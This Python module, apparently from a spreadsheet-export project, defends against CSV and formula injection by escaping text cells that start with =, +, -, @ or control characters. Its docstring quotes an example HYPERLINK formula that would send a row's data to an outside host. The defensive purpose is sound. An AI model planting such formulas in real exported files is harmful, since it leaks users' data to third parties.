"""Every text cell we write stays text (OWASP "CSV injection").

A spreadsheet program runs a cell that starts with = + - @ (and, in some
programs, a tab or a carriage return before one of them) as a formula: a unit,
department or place named «=HYPERLINK("https://…"&A1,"Nhà văn hóa")» would
become a live link that sends the row to another host, in every file we offer.
Names come from data/ and from the units' Excel reports (macros/import_report.py),
so nothing upstream can be trusted to exclude them.

- .xlsx (openpyxl): a str value is stored as a string cell (data_type "s"),
  never a formula, whatever it starts with; the text is kept exactly.
  xlsx.save() applies this to every cell of every workbook we write.
- CSV has no cell types: a text that starts with one of those characters gets a
  leading apostrophe (OWASP's advice), which Excel and LibreOffice show as the
  start of a text; the characters after it are the editor's own.
Numbers and dates are not text and pass unchanged (a negative amount is a number).
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_text(value: str) -> str:
    """A text for a CSV cell: "'" before a text a spreadsheet would run as a formula."""
    return "'" + value if looks_like_formula(value) else value


def text_cells(wb) -> None:
    """Every str cell of the workbook stored as text, not as a formula."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "s":
                    cell.data_type = "s"
